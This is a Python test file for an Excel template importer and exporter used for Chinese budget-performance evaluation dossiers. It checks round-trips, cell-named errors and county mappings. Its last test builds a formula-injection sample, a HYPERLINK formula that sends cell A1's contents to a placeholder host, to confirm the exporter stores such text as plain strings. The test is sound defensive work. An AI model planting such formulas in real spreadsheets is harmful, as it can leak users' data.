"""The Excel template, reading it back with cell-named errors, export, and county mappings."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jixiao.core.errors import InputError
from jixiao.core.figures import FigureBook
from jixiao.importers.xlsx import (
    PROFILE_SHEET,
    STAFF_SHEET,
    TABLES,
    export_workbook,
    import_xlsx,
    write_template,
)
from jixiao.io.dossiers import load_dossier

from .conftest import REPO, SEED_DOSSIER

MAPPING_DIR = REPO / "examples" / "excel-mapping"


@pytest.fixture
def template(tmp_path: Path) -> Path:
    path = tmp_path / "template.xlsx"
    write_template(path)
    return path


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    path = tmp_path / "seed.xlsx"
    export_workbook(
        load_dossier(SEED_DOSSIER), path, score=[["指标", "分值"], ["预算执行率", "10"]]
    )
    return path


def test_template_has_a_sheet_per_section_with_help_and_dropdowns(template: Path) -> None:
    workbook = load_workbook(template)
    expected = {"说明", PROFILE_SHEET, STAFF_SHEET, "资产", *(t.sheet for t in TABLES)}
    assert expected <= set(workbook.sheetnames)
    money = workbook["资金"]
    assert [c.value for c in money[1]][:4] == ["阶段", "经费类型", "经济分类或项目", "金额"]
    lists = [v for v in money.data_validations.dataValidation if v.type == "list"]
    assert any("年初预算" in (v.formula1 or "") for v in lists)
    assert any(v.prompt for v in money.data_validations.dataValidation)
    profile = workbook[PROFILE_SHEET]
    assert profile["A2"].value == "年度" and profile["D2"].value == "year"
    assert any(row[0].value == "单位性质" for row in profile.iter_rows(min_row=2))


def test_seed_dossier_round_trips_through_the_workbook(exported: Path) -> None:
    assert import_xlsx(exported).dossier == load_dossier(SEED_DOSSIER)


def test_export_has_figures_and_score(exported: Path) -> None:
    workbook = load_workbook(exported)
    figures = {
        row[0].value: row[2].value
        for row in workbook["计算指标"].iter_rows(min_row=2)
        if row[0].value
    }
    assert Decimal(str(figures["rates.in_service_control"])) == 80
    assert workbook["评分表"]["A2"].value == "预算执行率"


def _edit(path: Path, sheet: str, cell: str, value: object) -> Path:
    workbook = load_workbook(path)
    workbook[sheet][cell] = value
    workbook.save(path)
    return path


def test_errors_name_sheet_cell_and_expectation(exported: Path) -> None:
    _edit(exported, STAFF_SHEET, "C3", "九")
    _edit(exported, "资金", "D2", "480.26万元")
    _edit(exported, "资金", "A3", "预算")
    with pytest.raises(InputError) as caught:
        import_xlsx(exported)
    message = str(caught.value)
    assert "人员!C3" in message and "整数" in message
    assert "资金!D2" in message and "数字" in message
    assert "资金!A3" in message and "年初预算" in message


def test_model_errors_are_mapped_back_to_cells(exported: Path) -> None:
    _edit(exported, "绩效指标", "E2", "G99")  # the goal column of the first indicator
    with pytest.raises(InputError) as caught:
        import_xlsx(exported)
    assert "绩效指标!E2" in str(caught.value) and "G99" in str(caught.value)
    _edit(exported, "绩效指标", "E2", "G4")
    _edit(exported, PROFILE_SHEET, "B2", 1999)
    with pytest.raises(InputError) as caught:
        import_xlsx(exported)
    assert "基本信息!B2" in str(caught.value)


def test_other_workbooks_need_a_mapping(tmp_path: Path) -> None:
    from openpyxl import Workbook

    path = tmp_path / "other.xlsx"
    Workbook().save(path)
    with pytest.raises(InputError, match="--mapping"):
        import_xlsx(path)


def test_county_layout_through_the_example_mapping(tmp_path: Path) -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_workbook", MAPPING_DIR / "make_workbook.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    path = tmp_path / "county.xlsx"
    module.build(path)
    result = import_xlsx(path, mapping=MAPPING_DIR / "county-layout.yaml")
    flat = FigureBook(result.dossier).flat()
    assert result.dossier.profile.name == "某县统计局"
    assert (
        flat["staffing.authorized"],
        flat["staffing.in_service"],
        flat["rates.in_service_control"],
    ) == ("14", "13", "92.86")
    assert (flat["budget.total"], flat["executed.total"]) == ("378.75", "367.3")
    assert len(result.dossier.money.lines) == 6  # the blank amount row is skipped


def test_mapping_problems_are_named(tmp_path: Path) -> None:
    mapping = tmp_path / "m.yaml"
    mapping.write_text("cells:\n  year: B2\ncolumns: {}\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        import_xlsx(tmp_path / "x.xlsx", mapping=mapping)
    message = str(caught.value)
    assert "cells.year" in message and "工作表!单元格" in message
    assert "columns" in message


def test_every_dossier_section_round_trips(tmp_path: Path) -> None:
    from jixiao.core.dossier import dossier_from_data
    from jixiao.importers.text import import_text_file
    from jixiao.io.dossiers import dossier_to_data

    from .conftest import SEED_REPORT

    data = dossier_to_data(load_dossier(SEED_DOSSIER))
    data["profile"].update({"code": "360922001", "unit_type": "行政单位"})
    data["assets"].update(
        {
            "total_net_prior": "1771.67",
            "total_original": "2500",
            "fixed_in_use": "900",
            "fixed_total": "1000",
        }
    )
    data["staffing"].update({"retired_cadres": 1, "contract": 3})
    data["money"]["lines"].append(
        {
            "phase": "执行",
            "item": "三公经费-公务接待",
            "amount": "1.2",
            "unit": "元",
            "note": "接待",
            "source": {
                "file": "r.txt",
                "locator": "第3段",
                "start": 1,
                "end": 9,
                "text": "公务接待费1.2元",
            },
        }
    )
    data["indicators"][0].update(
        {
            "target": "10",
            "adjusted_target": "11",
            "target_text": "≥10次",
            "weight": "5",
            "self_score": "5",
            "evidence": ["检修记录", "照片"],
            "deviation_explanation": "无",
        }
    )
    data["assessments"] = {
        "budget_management": {
            "level": "达成",
            "fraction": "0.9",
            "checkpoints": [True, False, True],
            "note": "较好",
            "evidence": ["制度汇编"],
        }
    }
    data["data"] = {"重点项目数": "3"}
    data["previous"] = {"executed.sangong": "12.5"}
    data["waivers"] = [{"id": "budget.W001", "reason": "决算未批复", "where": "money.lines"}]
    data["sources"] = {
        "staffing.retired": {
            "file": "r.txt",
            "locator": "第19段",
            "start": 3,
            "end": 9,
            "text": "退休人员20人",
        }
    }
    data["evaluation"]["date"] = "2022-03-31"
    data["self_evaluation"]["grade"] = "优"
    complete = dossier_from_data(data)
    path = tmp_path / "complete.xlsx"
    export_workbook(complete, path)
    assert import_xlsx(path).dossier == complete
    imported = import_text_file(
        SEED_REPORT
    ).dossier  # with sources on lines, statements, indicators
    export_workbook(imported, path)
    assert import_xlsx(path).dossier == imported


@pytest.mark.parametrize(
    "text",
    [
        "cells: [1, 2]\n",
        "tables: {a: 1}\n",
        "tables:\n  - {field: money.lines, sheet: 预算支出, columns: {金额: amount}, header_row: 二}\n",
        "tables:\n  - {field: money.lines, sheet: 预算支出, columns: [金额]}\n",
        "tables:\n  - {field: money.lines, sheet: 预算支出, columns: {金额: amount}, values: {item: 3}}\n",
        "- just a list\n",
    ],
)
def test_malformed_mappings_are_clear_errors(tmp_path: Path, text: str) -> None:
    mapping = tmp_path / "m.yaml"
    mapping.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        import_xlsx(MAPPING_DIR / "county-data.xlsx", mapping=mapping)
    assert "m.yaml" in str(caught.value)


def test_user_text_that_looks_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    dossier = load_dossier(SEED_DOSSIER)
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    goals = tuple(goal.model_copy(update={"text": evil}) for goal in dossier.goals)
    dossier = dossier.model_copy(
        update={"goals": goals, "profile": dossier.profile.model_copy(update={"code": "=1+1"})}
    )
    path = tmp_path / "evil.xlsx"
    export_workbook(dossier, path)
    cells = [
        cell
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert {cell.value for cell in cells} >= {evil, "=1+1"}
    assert all(cell.data_type == "s" for cell in cells)
    back = import_xlsx(path).dossier
    assert back.goals[0].text == evil and back.profile.code == "=1+1"
